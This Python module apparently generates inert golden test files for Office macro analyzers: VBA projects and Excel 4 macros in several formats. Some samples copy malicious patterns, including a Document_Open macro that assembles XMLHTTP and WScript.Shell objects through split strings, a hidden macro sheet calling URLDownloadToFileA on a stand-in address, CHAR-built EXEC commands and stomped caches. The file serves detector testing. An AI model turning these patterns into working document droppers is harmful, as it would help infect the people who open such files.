"""Writes documents with macros, all inert: VBA projects (MS-OVBA), Excel 4 macros in BIFF 8, BIFF 5, XML and SYLK."""

from __future__ import annotations

import struct

from content_writer import cfb, zipped

MACRO = (
    'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  MsgBox "The minutes are attached."\r\nEnd Sub\r\n'
)
PLAIN = 'Attribute VB_Name = "Module1"\r\nFunction Sum2(a, b)\r\n  Sum2 = a + b\r\nEnd Function\r\n'
FETCHES = (
    'Attribute VB_Name = "Module1"\r\nSub Document_Open()\r\n  u = "http://192.0.2.7/a"\r\n'
    '  Set x = CreateObject("MSX" & "ML2.XML" & "HTTP")\r\n  Set w = CreateObject("WScript" & _\r\n   ".Shell")\r\n  w.Run "notepad"\r\nEnd Sub\r\n'
)


def compressed(text: bytes) -> bytes:
    """A container of literals (MS-OVBA 2.4.1)."""
    out = b"\x01"
    for start in range(0, len(text), 3000):
        piece = text[start : start + 3000]
        body = b"".join(b"\0" + piece[at : at + 8] for at in range(0, len(piece), 8))
        out += struct.pack("<H", 0xB000 | len(body) - 1) + body
    return out


def _record(number: int, content: bytes) -> bytes:
    return struct.pack("<HL", number, len(content)) + content


def directory(modules: list[str], page: int = 1252) -> bytes:
    """A ``dir`` stream of modules, ``name@offset of the source``."""
    out = _record(3, struct.pack("<H", page)) + struct.pack("<HLLH", 9, 4, 1, 2)
    for name in modules:
        plain, _, offset = name.partition("@")
        raw = plain.encode(f"cp{page}")
        out += _record(0x19, raw) + _record(0x1A, raw) + _record(0x32, plain.encode("utf-16-le"))
        out += _record(0x31, struct.pack("<L", int(offset or 0))) + _record(0x2B, b"")
    return compressed(out + _record(0x10, b""))


def cache(strings: list[str], code: int = 0xB9) -> bytes:
    """A performance cache whose lines hold one string each, and a first and last line."""
    lines = [
        b"\x96\x04\0\0",
        *(
            struct.pack("<HH", code, len(s)) + s.encode() + b"\0" * (len(s) & 1) + b"\x41\x40"
            for s in strings
        ),
        b"\x6f\0",
    ]
    table, at = b"", 0
    for line in lines:
        table += struct.pack("<LHHL", 0, len(line), 0, at)
        at += -(-len(line) // 8) * 8
    body = b"".join(line.ljust(-(-len(line) // 8) * 8, b"\0") for line in lines)
    return bytes(60) + b"\xfe\xca\x01\0" + struct.pack("<H", len(lines)) + table + bytes(10) + body


def project(
    source: str,
    compiled: list[str] | None = None,
    folder: str = "Macros/",
    page: int = 1252,
    names: bytes = b"",
    listed: bool = True,
    code: int = 0xB9,
) -> bytes:
    """A storage with one module."""
    before = cache(compiled, code) if compiled is not None else b""
    streams = {
        f"{folder}VBA/dir": directory([f"Module1@{len(before)}"] if listed else [], page),
        f"{folder}VBA/Module1": before + compressed(source.encode(f"cp{page}")),
        f"{folder}VBA/_VBA_PROJECT": b"\xcc\x61\x97\0" + bytes(20) + names,
    }
    return cfb({**streams, "WordDocument" if folder else "PROJECT": bytes(600)})


def docm(vba: bytes, picture: bytes = b"") -> bytes:
    """A document with a project."""
    return zipped(
        {
            "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": vba,
            "word/media/a.bin": picture,
        }
    )


# Excel 4 macros ------------------------------------------------------------------------------------------------------


def _biff(number: int, body: bytes) -> bytes:
    return struct.pack("<HH", number, len(body)) + body


def _string(text: str) -> bytes:
    return b"\x17" + bytes((len(text), 0)) + text.encode()


def _call(function: int, arguments: int) -> bytes:
    return b"\x42" + bytes((arguments,)) + struct.pack("<H", function)


def formula(row: int, tokens: bytes) -> bytes:
    """A FORMULA record in the first column."""
    return _biff(6, struct.pack("<HHH8sHLH", row, 0, 0, bytes(8), 0, 0, len(tokens)) + tokens)


EXEC, ALERT, HALT, CHAR, CONCATENATE, REGISTER = 110, 118, 54, 111, 336, 149
_HALT = _call(HALT, 0)


def alert() -> bytes:
    """``=ALERT("hello")``."""
    return formula(0, _string("hello") + _call(ALERT, 1)) + formula(1, _HALT)


def built(command: str) -> bytes:
    """``=EXEC(CHAR(110)&CHAR(111)...)``: a command in single characters."""
    tokens = b""
    for index, char in enumerate(command):
        tokens += b"\x1e" + struct.pack("<H", ord(char)) + b"\x41" + struct.pack("<H", CHAR)
        tokens += b"\x08" if index else b""
    return formula(0, tokens + _call(EXEC, 1)) + formula(1, _HALT)


def xls(
    cells: bytes = b"", hidden: int = 0, macro: bool = True, start: bool = True, wide: bool = True
) -> bytes:
    """A workbook with a sheet of numbers and, with `macro`, one of macros."""
    version = 0x600 if wide else 0x500
    begin = struct.pack("<HHHHLL" if wide else "<HHHH", version, 5, 0x1000, 1997, *((0, 6) if wide else ()))

    def bound(at: int, name: str, state: int, kind: int) -> bytes:
        return _biff(
            0x85, struct.pack("<LBBB", at, state, kind, len(name)) + (b"\0" if wide else b"") + name.encode()
        )

    reference = (
        b"\x3a\0\0\0\0\0\0" if wide else b"\x3a" + b"\xff\xff" + bytes(8) + b"\x01\0\x01\0" + b"\0\0\0"
    )
    name = _biff(
        0x18,
        struct.pack("<HBBHHHBBBB", 0x20, 0, 1, len(reference), 0, 0, 0, 0, 0, 0)
        + (b"\0" if wide else b"")
        + b"\x01"
        + reference,
    )
    links = _biff(0x1AE, b"\x02\0\x01\x04") + _biff(0x17, struct.pack("<HHHH", 1, 0, 1, 1)) if wide else b""

    def whole(first: int, second: int) -> bytes:
        sheets = bound(first, "Table", 0, 0) + (bound(second, "Macro1", hidden, 1) if macro else b"")
        return (
            _biff(0x809, begin)
            + _biff(0x42, struct.pack("<H", 1252))
            + sheets
            + links
            + (name if start and macro else b"")
            + _biff(10, b"")
        )

    first = len(whole(0, 0))
    sheet = _biff(0x809, begin[:2] + b"\x10\0" + begin[4:]) + _biff(10, b"")
    macros = _biff(0x809, begin[:2] + b"\x40\0" + begin[4:]) + cells + _biff(10, b"")
    return cfb(
        {
            "Workbook" if wide else "Book": whole(first, first + len(sheet))
            + sheet
            + (macros if macro else b"")
        }
    )


def xlsm(formulas: list[str], state: str = "", start: bool = True, kind: str = "xlMacrosheet") -> bytes:
    """The same as XML."""
    base = "http://schemas.microsoft.com/office/2006/relationships"
    sheet = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    hidden = f' state="{state}"' if state else ""
    name = (
        '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>'
        if start
        else ""
    )
    cells = "".join(f'<row r="{n}"><c r="A{n}"><f>{f}</f></c></row>' for n, f in enumerate(formulas, 1))
    folder = "worksheets" if kind == "worksheet" else "macrosheets"
    macro_type = "application/vnd.ms-excel.macrosheet+xml"
    return zipped({
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
            f'<Override PartName="/xl/{folder}/sheet1.xml" ContentType="{macro_type}"/></Types>'
        ).encode(),
        "_rels/.rels": f'<Relationships><Relationship Id="rId1" Type="{sheet}/officeDocument" Target="xl/workbook.xml"/></Relationships>'.encode(),
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{sheet}"><sheets><sheet name="Macro1" sheetId="1"{hidden} r:id="rId1"/></sheets>{name}</workbook>'.encode(),
        "xl/_rels/workbook.xml.rels": f'<Relationships><Relationship Id="rId1" Type="{base}/{kind}" Target="{folder}/sheet1.xml"/></Relationships>'.encode(),
        f"xl/{folder}/sheet1.xml": f'<xm:macrosheet xmlns="{main}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>{cells}</sheetData></xm:macrosheet>'.encode(),
    })  # fmt: skip


def _binary(number: int, body: bytes = b"") -> bytes:
    """A record of XLSB: seven bits a byte in number and size."""
    left, size = len(body), b""
    while not size or left:
        size += bytes((left & 0x7F | (0x80 if left > 0x7F else 0),))
        left >>= 7
    return (bytes((number & 0x7F | 0x80, number >> 7)) if number > 0x7F else bytes((number,))) + size + body


def _long(text: str) -> bytes:
    return struct.pack("<L", len(text)) + text.encode("utf-16-le")


def xlsb(command: str, state: int = 2) -> bytes:
    """``=EXEC(command)`` in a binary workbook (MS-XLSB)."""
    text = b"\x17" + struct.pack("<H", len(command)) + command.encode("utf-16-le")
    cells = b""
    for row, tokens in enumerate((text + _call(EXEC, 1), _HALT)):
        cells += _binary(0, struct.pack("<LLHBBBLLL", row, 0, 300, 0, 0, 0, 1, 0, 0))
        cells += _binary(9, bytes(18) + struct.pack("<L", len(tokens)) + tokens + bytes(4))
    sheet = _binary(129) + _binary(145) + cells + _binary(146) + _binary(130)
    reference = b"\x3a" + struct.pack("<HLH", 0, 0, 0)
    start = (
        struct.pack("<LBL", 0x20, 0, 0xFFFFFFFF)
        + _long("_xlnm.Auto_Open")
        + struct.pack("<L", len(reference))
        + reference
        + b"\0\0\0\0\xff\xff\xff\xff"
    )
    links = _binary(353) + _binary(357) + _binary(362, struct.pack("<LLLL", 1, 0, 0, 0)) + _binary(354)
    sheets = (
        _binary(143)
        + _binary(156, struct.pack("<LL", state, 1) + _long("rId1") + _long("Macro1"))
        + _binary(144)
    )
    head = '<?xml version="1.0"?>'
    relations = f'{head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{{}}" Target="{{}}"/></Relationships>'
    types = "".join(
        f'<Override PartName="/xl/{part}" ContentType="application/vnd.ms-excel.{kind}"/>'
        for part, kind in (
            ("workbook.bin", "sheet.binary.macroEnabled.main"),
            ("macrosheets/sheet1.bin", "macrosheet"),
        )
    )
    return zipped({
        "[Content_Types].xml": f'{head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{types}</Types>'.encode(),
        "_rels/.rels": relations.format("http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument", "xl/workbook.bin").encode(),
        "xl/workbook.bin": _binary(131) + sheets + links + _binary(39, start) + _binary(132),
        "xl/_rels/workbook.bin.rels": relations.format("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.bin").encode(),
        "xl/macrosheets/sheet1.bin": sheet,
    })  # fmt: skip


SLK = b'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1;KOut Flank;F\r\nC;X1;Y1;K0;EALERT("hello")\r\nC;X1;Y2;K0;EHALT()\r\nE\r\n'

#: By analyzer: name of the golden file, what the analyzer is told the name is, content.
GOLDEN: dict[str, list[tuple[str, str, bytes]]] = {
    "vba": [
        ("autoopen", "m.doc", project(MACRO, ["The minutes are attached."])),
        ("plain", "vbaProject.bin", project(PLAIN, [], folder="")),
        ("fetches_and_runs", "m.doc", project(FETCHES)),
        ("stomped", "m.doc", project(MACRO, ["The minutes are attached.", "cmd /c echo hello"])),
        ("without_source", "m.doc", project('Attribute VB_Name = "Module1"\r\n', ["a", "cmd /c echo hello"])),
        ("unlisted", "m.doc", project(MACRO, listed=False)),
        ("japanese", "m.doc", project(MACRO.replace("The minutes are", "議事録"), page=932)),
        ("no_macro", "m.doc", cfb({"WordDocument": bytes(600)})),
    ],
    "xlm": [
        ("biff8_very_hidden", "m.xls", xls(built("notepad and a command of forty letters"), hidden=2)),
        ("no_macros", "m.xls", xls(macro=False)),
        ("xml_calls", "m.xlsm", xlsm(['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://192.0.2.7/a","a",0,0)', 'EXEC("note"&amp;"pad")', "HALT()"], "veryHidden")),
        ("sheet_of_numbers", "m.xlsx", xlsm(["SUM(1,2)"], start=False, kind="worksheet")),
        ("sylk", "m.slk", SLK),
        ("sylk_table", "m.slk", b"ID;P\r\nC;X1;Y1;K1\r\nC;X1;Y2;K2;ESUM(R1C1)\r\nE\r\n"),
    ],
}  # fmt: skip
